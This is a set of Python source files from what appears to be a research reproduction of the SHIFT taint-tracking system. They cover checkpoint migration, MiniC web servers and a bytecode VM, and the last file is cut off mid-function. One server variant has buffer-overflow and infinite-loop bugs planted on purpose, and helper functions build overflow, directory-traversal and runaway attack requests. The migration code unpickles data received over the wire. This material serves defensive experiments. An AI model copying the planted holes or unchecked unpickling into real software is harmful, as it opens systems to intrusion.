    (O(touched pages)); an unsupervised one takes a full snapshot.
    Passing an existing chain member instead packs the state *as of
    that checkpoint* — e.g. "just before request N was accepted" —
    which is how the fleet migrates a mid-stream session.

    ``watermark`` tags the blob with the highest request index whose
    effects it contains — the replication stream's replay cut-off (see
    :mod:`repro.chaos.replica`).  Readers use :func:`blob_watermark`;
    blobs packed without one report -1 (no replay guarantee).
    """
    sup = getattr(machine, "resil", None)
    if checkpoint is None:
        if sup is not None:
            checkpoint = sup.checkpoint_now(reason)
        else:
            checkpoint = MachineCheckpoint.capture(machine)
    chain = []
    node: Optional[_SnapshotBase] = checkpoint
    while node is not None:
        chain.append(node)
        node = node.parent
    chain.reverse()

    payload = {
        "version": 1,
        "machine_id": machine.machine_id,
        "fingerprint": program_fingerprint(machine),
        "granularity": machine.taint_map.granularity,
        "chain": chain,
        "console_out": bytes(machine.console.out),
        "console_err": bytes(machine.console.err),
        "commands": list(machine.executed_commands),
        "queries": list(machine.executed_queries),
        "next_index": machine.net._next_index,
        "net_dropped": machine.net.dropped,
        "quarantined": list(machine.net.quarantined),
        "incidents": [] if sup is None else list(sup.incidents),
        "recoveries": 0 if sup is None else sup.recoveries,
    }
    if watermark is not None:
        payload["watermark"] = watermark
    body = pickle.dumps(payload, protocol=pickle.HIGHEST_PROTOCOL)
    return MAGIC + _HEADER.pack(zlib.crc32(body)) + body


def blob_watermark(blob: bytes) -> int:
    """Request-index watermark a replication blob was packed with.

    -1 means the blob predates watermarks (or was a plain migration
    blob): it carries state but promises nothing about which requests'
    effects are inside, so a recovery must replay everything open.
    """
    return unpack_blob(blob).get("watermark", -1)


def unpack_blob(blob: bytes) -> dict:
    """Validate a wire blob and return its payload dict."""
    if len(blob) < len(MAGIC) + _HEADER.size or not blob.startswith(MAGIC):
        raise MigrationError("not a migration blob (bad magic)")
    (crc,) = _HEADER.unpack_from(blob, len(MAGIC))
    body = blob[len(MAGIC) + _HEADER.size:]
    if zlib.crc32(body) != crc:
        raise MigrationError("migration blob failed its integrity check")
    payload = pickle.loads(body)
    if payload.get("version") != 1:
        raise MigrationError(
            f"unsupported migration format version {payload.get('version')}")
    return payload


def rehydrate_worker(blob: bytes, machine) -> None:
    """Apply a packed worker state to a freshly built twin machine.

    The target must run the same program (fingerprint-checked) at the
    same taint granularity.  After this returns, the target is
    state-identical to the source at pack time — ``machine.run()``
    resumes the in-flight session — and its recovery supervisor (when
    present) has adopted the migrated chain, so subsequent checkpoints
    continue as deltas on top of it.
    """
    payload = unpack_blob(blob)
    if payload["fingerprint"] != program_fingerprint(machine):
        raise MigrationError(
            "target machine runs a different program than the blob")
    if payload["granularity"] != machine.taint_map.granularity:
        raise MigrationError(
            f"taint granularity mismatch: blob {payload['granularity']}, "
            f"target {machine.taint_map.granularity}")

    # Seed the external-evidence state the checkpoint only truncates:
    # the restore below cuts these back to their at-checkpoint lengths.
    machine.console.out[:] = payload["console_out"]
    machine.console.err[:] = payload["console_err"]
    machine.executed_commands[:] = payload["commands"]
    machine.executed_queries[:] = payload["queries"]
    chain = payload["chain"]
    tip = chain[-1]
    net = machine.net
    net._next_index = payload["next_index"]
    # Quarantine/drop evidence is cut back to the packed checkpoint's
    # view: anything the source quarantined or refused *after* that
    # point belongs to requests the target will re-execute itself.
    net.dropped = tip._net_dropped
    net.quarantined[:] = payload["quarantined"][:tip._quarantined_len]

    tip.restore(machine)

    sup = getattr(machine, "resil", None)
    if sup is not None:
        sup.chain = list(chain)
        sup._checkpoint = tip
        sup._checkpoint_instr = tip.instruction_count
        # Keep only incidents for requests the target will *not*
        # re-execute (everything before the checkpoint's pending head;
        # an empty head means the pack point was end-of-session).
        # Instruction counts cannot order this: rollback rewinds the
        # counter, so a later checkpoint may count lower than the
        # incident it recovered from.
        head = tip.pending_head_index
        sup.incidents = [inc for inc in payload["incidents"]
                         if head == -1 or inc.request_index < head]
        sup.recoveries = len(sup.incidents)
