"""Resilience layer: checkpoint/rollback, recovery, fault injection.

SHIFT's premise (paper 2.3, 5) is that a NaT-consumption detection is a
*recoverable* deferred exception — the protected process should survive
an attack, not die with it.  This package supplies the software monitor
the paper assumes:

* :mod:`repro.resil.checkpoint` — :class:`MachineCheckpoint` snapshots
  and restores the complete machine state (CPU registers + NaT bits +
  predicates, sparse-memory pages including the taint bitmap, heap
  pointer, fd table, provenance side-table, perf counters, caches,
  threads) with identical semantics under both interpreter engines.
* :mod:`repro.resil.recovery` — the ``recover`` policy mode: a
  supervisor that rolls back to the last checkpoint on a
  ``SecurityAlert``/``Fault``, quarantines the offending request and
  resumes, with a per-request instruction-budget watchdog.
* :mod:`repro.resil.transient` — seeded deterministic transient device
  errors, absorbed by bounded retry-with-backoff in the I/O natives.
* :mod:`repro.resil.inject` — the fault-injection campaign (taint-tag
  flips, NaT drops, read truncation, transient errors) used by
  ``repro.harness.resilbench`` to measure detection/recovery rates.
"""

from __future__ import annotations

from repro.resil.checkpoint import DeltaCheckpoint, MachineCheckpoint
from repro.resil.migrate import pack_worker, rehydrate_worker
from repro.resil.recovery import QuarantineIncident, ResilienceSupervisor
from repro.resil.transient import RetryPolicy, TransientErrorInjector

__all__ = [
    "DeltaCheckpoint",
    "MachineCheckpoint",
    "QuarantineIncident",
    "ResilienceSupervisor",
    "RetryPolicy",
    "TransientErrorInjector",
    "pack_worker",
    "rehydrate_worker",
]
