"""The Apache-stand-in web server (paper Figure 6).

A small static-file HTTP server in MiniC.  Request handling is
dominated by syscall/device time (accept, recv, file reads, sends), so
SHIFT's load/store instrumentation barely shows — the property behind
the paper's ~1% server overhead.
"""

from __future__ import annotations

import random
from typing import Dict

WEBSERVER_SOURCE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);
native int open(char *path, int flags);
native int read(int fd, char *buf, int n);
native int close(int fd);

char req[512];
char path[256];
char chunk[1100];
int served;

int send_str(int fd, char *s) {
    return send(fd, s, strlen(s));
}

int serve(int fd) {
    int n = recv(fd, req, 500);
    if (n <= 0) {
        return 0;
    }
    req[n] = 0;
    if (strncmp(req, "GET ", 4) != 0) {
        send_str(fd, "HTTP/1.0 400 Bad Request\\r\\n\\r\\n");
        return 0;
    }
    // Resolve the request path under the document root.
    strcpy(path, "/www");
    int i = 4;
    int pi = 4;
    while (req[i] && req[i] != ' ' && pi < 250) {
        path[pi] = req[i];
        pi++;
        i++;
    }
    path[pi] = 0;
    int f = open(path, 0);
    if (f < 0) {
        send_str(fd, "HTTP/1.0 404 Not Found\\r\\n\\r\\n");
        return 0;
    }
    send_str(fd, "HTTP/1.0 200 OK\\r\\nServer: mini-httpd\\r\\n\\r\\n");
    int got = read(f, chunk, 1024);
    while (got > 0) {
        send(fd, chunk, got);
        got = read(f, chunk, 1024);
    }
    close(f);
    return 1;
}

int main() {
    int fd;
    while ((fd = accept()) >= 0) {
        served += serve(fd);
    }
    return served;
}
"""

#: A deliberately vulnerable variant for the resilience experiments
#: (repro.resil): same protocol as WEBSERVER_SOURCE, three planted bugs.
#:
#: 1. The URL-copy loop has **no bounds check**, so a ~300-byte URL
#:    overflows ``path[256]`` into the adjacent ``mime_probe`` global.
#: 2. ``mime_probe`` (legitimately a pointer to the first chunk byte,
#:    for content sniffing) is **dereferenced after parsing** — an
#:    overflowed, attacker-controlled probe address is exactly the
#:    corrupted-pointer load SHIFT policy L1 detects.
#: 3. A ``GET Retry-…`` request enters a blocking open-retry loop that
#:    never terminates — caught by the supervisor's per-request
#:    instruction-budget watchdog, not by taint tracking.
#:
#: Compiled *strict* (byte granularity), every request byte is tainted
#: network input; clean requests still run alert-free because their
#: bytes are only compared and copied, never used as addresses.
RESIL_WEBSERVER_SOURCE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);
native int open(char *path, int flags);
native int read(int fd, char *buf, int n);
native int close(int fd);

char req[512];
char chunk[1100];
char path[256];
int mime_probe;
int served;

int send_str(int fd, char *s) {
    return send(fd, s, strlen(s));
}

int serve(int fd) {
    int n = recv(fd, req, 500);
    if (n <= 0) {
        return 0;
    }
    req[n] = 0;
    if (strncmp(req, "GET ", 4) != 0) {
        send_str(fd, "HTTP/1.0 400 Bad Request\\r\\n\\r\\n");
        return 0;
    }
    // Content-sniffing probe: points at the first body byte by default.
    mime_probe = (int)&chunk;
    strcpy(path, "/www");
    int i = 4;
    int pi = 4;
    while (req[i] && req[i] != ' ') {  // BUG 1: no pi bound
        path[pi] = req[i];
        pi++;
        i++;
    }
    path[pi] = 0;
    char *probe = (char *)mime_probe;  // BUG 2: deref after overflow
    int sniff = *probe;
    int f = open(path, 0);
    while (f < 0 && req[5] == 'R') {  // BUG 3: blocking retry loop
        f = open(path, 0);
    }
    if (f < 0) {
        send_str(fd, "HTTP/1.0 404 Not Found\\r\\n\\r\\n");
        return 0;
    }
    send_str(fd, "HTTP/1.0 200 OK\\r\\nServer: mini-httpd\\r\\n\\r\\n");
    int got = read(f, chunk, 1024);
    while (got > 0) {
        send(fd, chunk, got);
        got = read(f, chunk, 1024);
    }
    close(f);
    return 1;
}

int main() {
    int fd;
    while ((fd = accept()) >= 0) {
        served += serve(fd);
    }
    return served;
}
"""


#: Tier-1 fleet frontend (repro.fleet): a reverse proxy that accepts a
#: connection, validates the request line, and forwards the bytes
#: upstream by sending them back out on the connection.  It never opens
#: a file, so no fopen-point policy can fire here — the point of the
#: two-tier experiment is that the *backend* catches a traversal whose
#: taint arrived purely via the wire-transported tag bits.  The fleet
#: layer runs its connections with ``capture_taint=True``, so the
#: forwarded bytes leave this machine with their taint attached.
FLEET_PROXY_SOURCE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);

char req[600];
int forwarded;

int send_str(int fd, char *s) {
    return send(fd, s, strlen(s));
}

int forward(int fd) {
    int n = recv(fd, req, 580);
    if (n <= 0) {
        return 0;
    }
    req[n] = 0;
    if (strncmp(req, "GET ", 4) != 0) {
        send_str(fd, "HTTP/1.0 400 Bad Request\\r\\n\\r\\n");
        return 0;
    }
    send(fd, req, n);
    return 1;
}

int main() {
    int fd;
    while ((fd = accept()) >= 0) {
        forwarded += forward(fd);
    }
    return forwarded;
}
"""


#: Dynamic-content backend for the adaptive experiments (repro.adaptive).
#: Unlike the static-file server (whose cycles are device time, hiding
#: instrumentation cost), this app *computes*: every request hashes the
#: whole file body byte-by-byte before answering, so instrumented loads
#: and stores dominate and always-on SHIFT pays full freight.  It also
#: scrubs its request-derived buffers (``memset`` clears tag bits along
#: with the data) once the URL is resolved, so a machine that went
#: tainted on one request provably re-quiesces before the next accept —
#: the behaviour on-demand tracking converts into cycles saved.
BACKEND_SOURCE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);
native int open(char *path, int flags);
native int read(int fd, char *buf, int n);
native int close(int fd);

char req[512];
char path[256];
char chunk[1100];
char digest[16];
int served;

int send_str(int fd, char *s) {
    return send(fd, s, strlen(s));
}

int serve(int fd) {
    int n = recv(fd, req, 500);
    if (n <= 0) {
        return 0;
    }
    req[n] = 0;
    if (strncmp(req, "GET ", 4) != 0) {
        send_str(fd, "HTTP/1.0 400 Bad Request\\r\\n\\r\\n");
        memset(req, 0, 512);
        return 0;
    }
    strcpy(path, "/www");
    int i = 4;
    int pi = 4;
    while (req[i] && req[i] != ' ' && pi < 250) {
        path[pi] = req[i];
        pi++;
        i++;
    }
    path[pi] = 0;
    int f = open(path, 0);
    // The URL is resolved; scrub every request-derived byte so the
    // worker is taint-free before the compute phase starts.
    memset(req, 0, 512);
    memset(path, 0, 256);
    if (f < 0) {
        send_str(fd, "HTTP/1.0 404 Not Found\\r\\n\\r\\n");
        return 0;
    }
    // Dynamic content: FNV-style digest over the entire file body,
    // then an in-place scramble pass re-read by a second checksum —
    // loads *and* stores on every byte, the access pattern SHIFT's
    // per-access instrumentation prices at full rate.
    int h = 2166136261;
    int got = read(f, chunk, 1024);
    while (got > 0) {
        int j = 0;
        while (j < got) {
            h = (h ^ chunk[j]) * 16777619;
            chunk[j] = h & 127;
            j++;
        }
        j = 0;
        while (j < got) {
            h = (h + chunk[j]) * 33;
            j++;
        }
        got = read(f, chunk, 1024);
    }
    close(f);
    send_str(fd, "HTTP/1.0 200 OK\\r\\nServer: mini-backend\\r\\n\\r\\n");
    int d = 0;
    while (d < 8) {
        int v = (h >> ((7 - d) * 4)) & 15;
        if (v < 10) {
            digest[d] = '0' + v;
        } else {
            digest[d] = 'a' + (v - 10);
        }
        d++;
    }
    digest[8] = 10;
    send(fd, digest, 9);
    return 1;
}

int main() {
    int fd;
    while ((fd = accept()) >= 0) {
        served += serve(fd);
    }
    return served;
}
"""


def overflow_request(length: int = 300) -> bytes:
    """Buffer-overflow attack: URL long enough to smash ``mime_probe``."""
    return b"GET /" + b"A" * length + b" HTTP/1.0\r\n\r\n"


def traversal_request(target: str = "/../etc/secret") -> bytes:
    """Directory-traversal attack caught by policy H2 at ``open``."""
    return f"GET {target} HTTP/1.0\r\n\r\n".encode()


def runaway_request() -> bytes:
    """Request that drives the server into its blocking retry loop."""
    return b"GET /Retry-forever HTTP/1.0\r\n\r\n"


#: The request sizes measured in the paper (KB).
FILE_SIZES_KB = (4, 8, 16, 512)


def make_site(sizes_kb=FILE_SIZES_KB, seed: int = 7) -> Dict[str, bytes]:
    """Document root with one file per requested size."""
    rng = random.Random(seed)
    files = {}
    for kb in sizes_kb:
        body = bytes(rng.randrange(32, 127) for _ in range(1024)) * kb
        files[f"/www/file{kb}k.bin"] = body
    return files


def make_request(size_kb: int) -> bytes:
    """HTTP request line for the size's benchmark file."""
    return f"GET /file{size_kb}k.bin HTTP/1.0\r\nHost: bench\r\n\r\n".encode()
