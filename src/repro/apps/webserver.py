"""The Apache-stand-in web server (paper Figure 6).

A small static-file HTTP server in MiniC.  Request handling is
dominated by syscall/device time (accept, recv, file reads, sends), so
SHIFT's load/store instrumentation barely shows — the property behind
the paper's ~1% server overhead.
"""

from __future__ import annotations

import random
from typing import Dict

WEBSERVER_SOURCE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);
native int open(char *path, int flags);
native int read(int fd, char *buf, int n);
native int close(int fd);

char req[512];
char path[256];
char chunk[1100];
int served;

int send_str(int fd, char *s) {
    return send(fd, s, strlen(s));
}

int serve(int fd) {
    int n = recv(fd, req, 500);
    if (n <= 0) {
        return 0;
    }
    req[n] = 0;
    if (strncmp(req, "GET ", 4) != 0) {
        send_str(fd, "HTTP/1.0 400 Bad Request\\r\\n\\r\\n");
        return 0;
    }
    // Resolve the request path under the document root.
    strcpy(path, "/www");
    int i = 4;
    int pi = 4;
    while (req[i] && req[i] != ' ' && pi < 250) {
        path[pi] = req[i];
        pi++;
        i++;
    }
    path[pi] = 0;
    int f = open(path, 0);
    if (f < 0) {
        send_str(fd, "HTTP/1.0 404 Not Found\\r\\n\\r\\n");
        return 0;
    }
    send_str(fd, "HTTP/1.0 200 OK\\r\\nServer: mini-httpd\\r\\n\\r\\n");
    int got = read(f, chunk, 1024);
    while (got > 0) {
        send(fd, chunk, got);
        got = read(f, chunk, 1024);
    }
    close(f);
    return 1;
}

int main() {
    int fd;
    while ((fd = accept()) >= 0) {
        served += serve(fd);
    }
    return served;
}
"""

#: The request sizes measured in the paper (KB).
FILE_SIZES_KB = (4, 8, 16, 512)


def make_site(sizes_kb=FILE_SIZES_KB, seed: int = 7) -> Dict[str, bytes]:
    """Document root with one file per requested size."""
    rng = random.Random(seed)
    files = {}
    for kb in sizes_kb:
        body = bytes(rng.randrange(32, 127) for _ in range(1024)) * kb
        files[f"/www/file{kb}k.bin"] = body
    return files


def make_request(size_kb: int) -> bytes:
    """HTTP request line for the size's benchmark file."""
    return f"GET /file{size_kb}k.bin HTTP/1.0\r\nHost: bench\r\n\r\n".encode()
