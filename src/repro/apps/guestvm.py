"""The MiniScript VM: a guest bytecode interpreter written in MiniC.

This is the guest half of the interpreter-under-DIFT experiments
(ROADMAP item 5): a stack-bytecode virtual machine, written in MiniC
and compiled/instrumented by our own SHIFT pipeline, that executes
MiniScript request handlers (compiled host-side by
:mod:`repro.guestvm.asm`).  The bytecode container is embedded in the
VM's source as a ``char code[]`` initialiser — static guest data, like
any interpreter binary's embedded script — so the only tainted bytes
are the request bytes arriving over the simulated network.

Why this is the hard case for DIFT: the request bytes stop being
operands of the *protected program* and become data of a program the
protected program merely interprets.  Between the ``recv`` buffer and
the ``sql_exec``/``send`` use points the bytes pass through the VM's
fetch/decode/dispatch loop, its operand stack, its string arena, and
(for stored values) its persistent key-value heap — five layers of
copy-indirection that pattern-matching trackers lose.  SHIFT does not,
because every one of those copies is an instrumented load/store pair
that moves the tag bits with the data.

Two vulnerable services ship as MiniScript programs:

* **key-value store** (:data:`KV_SERVICE_SCRIPT`): a query
  mini-language (``SET k v`` / ``GET k`` / ``PGET k``).  ``GET``
  concatenates the tainted key into the SQL text — the injection
  policy H3 fires at the ``sql`` use point.  ``PGET`` is the
  parameterized control: the query string is a constant with a ``?``
  placeholder and the key is bound out of band, so the same attack
  bytes produce no alert.
* **templating handler** (:data:`TEMPLATE_SERVICE_SCRIPT`): ``RAW v``
  interpolates the tainted value into the HTML page unescaped — the
  XSS policy H5 fires when the page leaves via ``send``.  ``ESC v`` is
  the control: entity-escaping (inside the VM, by the ``ESCAPE``
  opcode) rewrites ``<`` before it can form a script tag, so the same
  payload is served harmlessly.
* **ping service** (:data:`PING_SERVICE_SCRIPT`): ``PING host`` builds
  ``ping -c 1 <host>`` by concatenation and shells out via the
  ``system`` native — a tainted shell metacharacter in the host fires
  the command-injection policy H4 at the use point.  ``VPING host`` is
  the control: the script charset-validates the host (letters, digits,
  dot, dash) before shelling out, so the same attack bytes are
  rejected in-script and a benign tainted host runs without alert.
"""

from __future__ import annotations

from typing import Dict

from repro.guestvm.asm import Assembled, assemble

#: Capacity of the VM's response buffer (bytes actually emittable).
RESPONSE_LIMIT = 2000
#: recv() bound for one request.
REQUEST_LIMIT = 1000

# ---------------------------------------------------------------------------
# The VM itself (MiniC).  @CODE@/@CODELEN@ are replaced per service with
# the assembled bytecode container.
# ---------------------------------------------------------------------------

GUESTVM_TEMPLATE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);
native int sql_exec(char *q);
native int system(char *cmd);
native char *memset(char *dst, int c, int n);
native void console_log(char *s);

// The MiniScript bytecode container (host-assembled, static data).
char code[@CODELEN@] = {@CODE@};

char reqbuf[1024];
char respbuf[2048];
char arena[6144];      // per-request string heap (scrubbed after use)
char kvheap[4096];     // persistent key-value arena (lives across requests)
char sqlbuf[768];      // NUL-terminated staging for sql_exec/console_log
char parambuf[512];    // out-of-band binding area for parameterized queries

int resp_len;
int arena_top;
int vm_err;            // 0 ok, 1 structural, 2 runaway script
int code_addr;

// container layout (parsed once at boot)
int nconsts;
int nfuncs;
int code_start;        // index of the first code byte inside code[]
int code_len;
int const_addr[48];
int const_len[48];
int func_off[16];

// string handle table: handle -> (address, length)
int s_addr[160];
int s_len[160];
int s_count;
int const_handle[48];  // per-request memoized handles for PUSHC

// operand stack (value, tag: 0=int 1=string handle) and call stack
int sv[64];
int st[64];
int sp;
int calls[16];
int csp;

// script variable slots
int var_v[32];
int var_t[32];

// key-value store: entry -> (key addr/len, value addr/len) in kvheap
int kv_key_addr[48];
int kv_key_len[48];
int kv_val_addr[48];
int kv_val_len[48];
int kv_count;
int kv_top;

// vpop() results (MiniC has single return values)
int pv;
int pt;

int served;

int u16at(int i) {
    return (code[i] & 255) | ((code[i + 1] & 255) << 8);
}

int vm_boot() {
    code_addr = (int)&code;
    if ((code[0] & 255) != 77 || (code[1] & 255) != 83
            || (code[2] & 255) != 66 || (code[3] & 255) != 49) {
        return -1;
    }
    nconsts = code[5] & 255;
    nfuncs = code[6] & 255;
    code_len = u16at(8);
    int pos = 10;
    int i = 0;
    while (i < nconsts) {
        int l = u16at(pos);
        const_addr[i] = code_addr + pos + 2;
        const_len[i] = l;
        pos = pos + 2 + l;
        i++;
    }
    i = 0;
    while (i < nfuncs) {
        func_off[i] = u16at(pos);
        pos = pos + 2;
        i++;
    }
    code_start = pos;
    return 0;
}

int new_handle(int addr, int len) {
    if (s_count >= 160) {
        vm_err = 1;
        return 0;
    }
    s_addr[s_count] = addr;
    s_len[s_count] = len;
    s_count++;
    return s_count - 1;
}

int arena_alloc(int n) {
    if (arena_top + n > 6144) {
        vm_err = 1;
        return (int)&arena;
    }
    int addr = (int)&arena + arena_top;
    arena_top = arena_top + n;
    return addr;
}

// Copy n bytes from src into the arena as a fresh string.  Byte-by-byte
// instrumented stores: the copied bytes keep their taint tags.
int str_from(char *src, int n) {
    int addr = arena_alloc(n);
    char *dst = (char *)addr;
    int i = 0;
    while (i < n) {
        dst[i] = src[i];
        i++;
    }
    return new_handle(addr, n);
}

int tostr_h(int v) {
    int addr = arena_alloc(24);
    int n = write_int((char *)addr, v);
    return new_handle(addr, n);
}

int coerce_str(int v, int t) {
    if (t == 1) {
        return v;
    }
    return tostr_h(v);
}

int concat_h(int a, int b) {
    int la = s_len[a];
    int lb = s_len[b];
    int addr = arena_alloc(la + lb);
    char *dst = (char *)addr;
    char *pa = (char *)s_addr[a];
    char *pb = (char *)s_addr[b];
    int i = 0;
    while (i < la) {
        dst[i] = pa[i];
        i++;
    }
    int j = 0;
    while (j < lb) {
        dst[la + j] = pb[j];
        j++;
    }
    return new_handle(addr, la + lb);
}

int streq(int a, int b) {
    if (s_len[a] != s_len[b]) {
        return 0;
    }
    char *pa = (char *)s_addr[a];
    char *pb = (char *)s_addr[b];
    int i = 0;
    while (i < s_len[a]) {
        if (pa[i] != pb[i]) {
            return 0;
        }
        i++;
    }
    return 1;
}

int find_h(int hay, int nee) {
    int lh = s_len[hay];
    int ln = s_len[nee];
    char *ph = (char *)s_addr[hay];
    char *pn = (char *)s_addr[nee];
    if (ln == 0) {
        return 0;
    }
    int i = 0;
    while (i + ln <= lh) {
        int j = 0;
        while (j < ln && ph[i + j] == pn[j]) {
            j++;
        }
        if (j == ln) {
            return i;
        }
        i++;
    }
    return 0 - 1;
}

int slice_h(int s, int a, int b) {
    int l = s_len[s];
    if (a < 0) {
        a = 0;
    }
    if (b > l) {
        b = l;
    }
    if (b < a) {
        b = a;
    }
    char *src = (char *)s_addr[s];
    return str_from(src + a, b - a);
}

int toint_h(int s) {
    char *p = (char *)s_addr[s];
    int l = s_len[s];
    int i = 0;
    int neg = 0;
    int v = 0;
    while (i < l && p[i] == ' ') {
        i++;
    }
    if (i < l && p[i] == '-') {
        neg = 1;
        i++;
    }
    while (i < l && p[i] >= '0' && p[i] <= '9') {
        v = v * 10 + (p[i] - '0');
        i++;
    }
    if (neg) {
        return 0 - v;
    }
    return v;
}

// HTML entity escaping — the control arm of the XSS experiment.  The
// escaped output is still *tainted* (it is copied from tainted input),
// but '<' can no longer open a script tag, so policy H5 stays quiet.
int escape_h(int s) {
    int l = s_len[s];
    char *src = (char *)s_addr[s];
    // worst case every byte expands to 5 ("&#34;")
    int addr = arena_alloc(l * 5 + 1);
    char *dst = (char *)addr;
    int i = 0;
    int o = 0;
    while (i < l) {
        char c = src[i];
        if (c == '<') {
            dst[o] = '&'; dst[o + 1] = 'l'; dst[o + 2] = 't';
            dst[o + 3] = ';';
            o = o + 4;
        } else if (c == '>') {
            dst[o] = '&'; dst[o + 1] = 'g'; dst[o + 2] = 't';
            dst[o + 3] = ';';
            o = o + 4;
        } else if (c == '&') {
            dst[o] = '&'; dst[o + 1] = 'a'; dst[o + 2] = 'm';
            dst[o + 3] = 'p'; dst[o + 4] = ';';
            o = o + 5;
        } else if (c == 34) {
            dst[o] = '&'; dst[o + 1] = '#'; dst[o + 2] = '3';
            dst[o + 3] = '4'; dst[o + 4] = ';';
            o = o + 5;
        } else if (c == 39) {
            dst[o] = '&'; dst[o + 1] = '#'; dst[o + 2] = '3';
            dst[o + 3] = '9'; dst[o + 4] = ';';
            o = o + 5;
        } else {
            dst[o] = c;
            o++;
        }
        i++;
    }
    return new_handle(addr, o);
}

int kv_set(int k, int v) {
    if (kv_count >= 48) {
        vm_err = 1;
        return 0;
    }
    int lk = s_len[k];
    int lv = s_len[v];
    if (kv_top + lk + lv > 4096) {
        vm_err = 1;
        return 0;
    }
    char *src = (char *)s_addr[k];
    int i = 0;
    while (i < lk) {
        kvheap[kv_top + i] = src[i];
        i++;
    }
    kv_key_addr[kv_count] = (int)&kvheap + kv_top;
    kv_key_len[kv_count] = lk;
    kv_top = kv_top + lk;
    src = (char *)s_addr[v];
    i = 0;
    while (i < lv) {
        kvheap[kv_top + i] = src[i];
        i++;
    }
    kv_val_addr[kv_count] = (int)&kvheap + kv_top;
    kv_val_len[kv_count] = lv;
    kv_top = kv_top + lv;
    kv_count++;
    return 1;
}

// Latest write wins: scan newest to oldest.
int kv_get(int k) {
    int lk = s_len[k];
    char *pk = (char *)s_addr[k];
    int e = kv_count - 1;
    while (e >= 0) {
        if (kv_key_len[e] == lk) {
            char *ek = (char *)kv_key_addr[e];
            int i = 0;
            while (i < lk && ek[i] == pk[i]) {
                i++;
            }
            if (i == lk) {
                return new_handle(kv_val_addr[e], kv_val_len[e]);
            }
        }
        e--;
    }
    return new_handle((int)&kvheap, 0);
}

int emit_h(int s) {
    int l = s_len[s];
    char *src = (char *)s_addr[s];
    int i = 0;
    while (i < l && resp_len < @RESPLIMIT@) {
        respbuf[resp_len] = src[i];
        resp_len++;
        i++;
    }
    return i;
}

// Stage a VM string as a NUL-terminated C string for a native call.
int to_cstr(int s, char *dst, int cap) {
    int l = s_len[s];
    if (l > cap - 1) {
        l = cap - 1;
    }
    char *src = (char *)s_addr[s];
    int i = 0;
    while (i < l) {
        dst[i] = src[i];
        i++;
    }
    dst[l] = 0;
    return l;
}

int vpop() {
    if (sp <= 0) {
        vm_err = 1;
        pv = 0;
        pt = 0;
        return 0;
    }
    sp--;
    pv = sv[sp];
    pt = st[sp];
    return pv;
}

int push_i(int v) {
    if (sp >= 64) {
        vm_err = 1;
        return 0;
    }
    sv[sp] = v;
    st[sp] = 0;
    sp++;
    return 0;
}

int push_s(int h) {
    if (sp >= 64) {
        vm_err = 1;
        return 0;
    }
    sv[sp] = h;
    st[sp] = 1;
    sp++;
    return 0;
}

// The fetch/decode/dispatch loop: the indirection DIFT must survive.
int vm_run() {
    int pc = code_start;
    int steps = 0;
    int limit = code_start + code_len;
    while (vm_err == 0) {
        steps++;
        if (steps > 200000 || pc < code_start || pc >= limit) {
            vm_err = 2;
            return -1;
        }
        int op = code[pc] & 255;
        pc++;
        if (op == 0) {              // HALT
            return 0;
        } else if (op == 1) {       // PUSHI
            int v = (code[pc] & 255) | ((code[pc + 1] & 255) << 8)
                  | ((code[pc + 2] & 255) << 16)
                  | ((code[pc + 3] & 255) << 24);
            if (v >= 2147483648) {
                v = v - 4294967296;
            }
            pc = pc + 4;
            push_i(v);
        } else if (op == 2) {       // PUSHC
            int idx = code[pc] & 255;
            pc++;
            if (idx >= nconsts) {
                vm_err = 1;
            } else {
                if (const_handle[idx] < 0) {
                    const_handle[idx] = new_handle(const_addr[idx],
                                                   const_len[idx]);
                }
                push_s(const_handle[idx]);
            }
        } else if (op == 3) {       // ARG: the request string is handle 0
            push_s(0);
        } else if (op == 4) {       // LOAD
            int slot = code[pc] & 255;
            pc++;
            if (var_t[slot] == 1) {
                push_s(var_v[slot]);
            } else {
                push_i(var_v[slot]);
            }
        } else if (op == 5) {       // STORE
            int slot = code[pc] & 255;
            pc++;
            vpop();
            var_v[slot] = pv;
            var_t[slot] = pt;
        } else if (op == 6) {       // DUP
            vpop();
            int v = pv;
            int t = pt;
            if (t == 1) {
                push_s(v);
                push_s(v);
            } else {
                push_i(v);
                push_i(v);
            }
        } else if (op == 7) {       // POP
            vpop();
        } else if (op == 8) {       // ADD: ints add, strings concatenate
            vpop();
            int bv = pv;
            int bt = pt;
            vpop();
            int av = pv;
            int at = pt;
            if (at == 0 && bt == 0) {
                push_i(av + bv);
            } else {
                push_s(concat_h(coerce_str(av, at), coerce_str(bv, bt)));
            }
        } else if (op >= 9 && op <= 12) {   // SUB MUL DIV MOD
            vpop();
            int bv = pv;
            vpop();
            int av = pv;
            if (op == 9) {
                push_i(av - bv);
            } else if (op == 10) {
                push_i(av * bv);
            } else if (bv == 0) {
                vm_err = 1;
            } else if (op == 11) {
                push_i(av / bv);
            } else {
                push_i(av % bv);
            }
        } else if (op == 13 || op == 14) {  // EQ NE
            vpop();
            int bv = pv;
            int bt = pt;
            vpop();
            int av = pv;
            int at = pt;
            int eq = 0;
            if (at == 1 && bt == 1) {
                eq = streq(av, bv);
            } else if (at == 0 && bt == 0) {
                if (av == bv) {
                    eq = 1;
                }
            }
            if (op == 14) {
                eq = 1 - eq;
            }
            push_i(eq);
        } else if (op >= 15 && op <= 18) {  // LT LE GT GE
            vpop();
            int bv = pv;
            vpop();
            int av = pv;
            int r = 0;
            if (op == 15 && av < bv) {
                r = 1;
            }
            if (op == 16 && av <= bv) {
                r = 1;
            }
            if (op == 17 && av > bv) {
                r = 1;
            }
            if (op == 18 && av >= bv) {
                r = 1;
            }
            push_i(r);
        } else if (op == 19) {      // JMP
            pc = code_start + u16at(pc);
        } else if (op == 20) {      // JZ
            int target = u16at(pc);
            pc = pc + 2;
            vpop();
            int truth = pv;
            if (pt == 1) {
                truth = s_len[pv];
            }
            if (truth == 0) {
                pc = code_start + target;
            }
        } else if (op == 21) {      // LEN
            vpop();
            push_i(s_len[pv]);
        } else if (op == 22) {      // INDEX
            vpop();
            int i = pv;
            vpop();
            int s = pv;
            if (i < 0 || i >= s_len[s]) {
                push_i(0);
            } else {
                char *p = (char *)s_addr[s];
                push_i(p[i] & 255);
            }
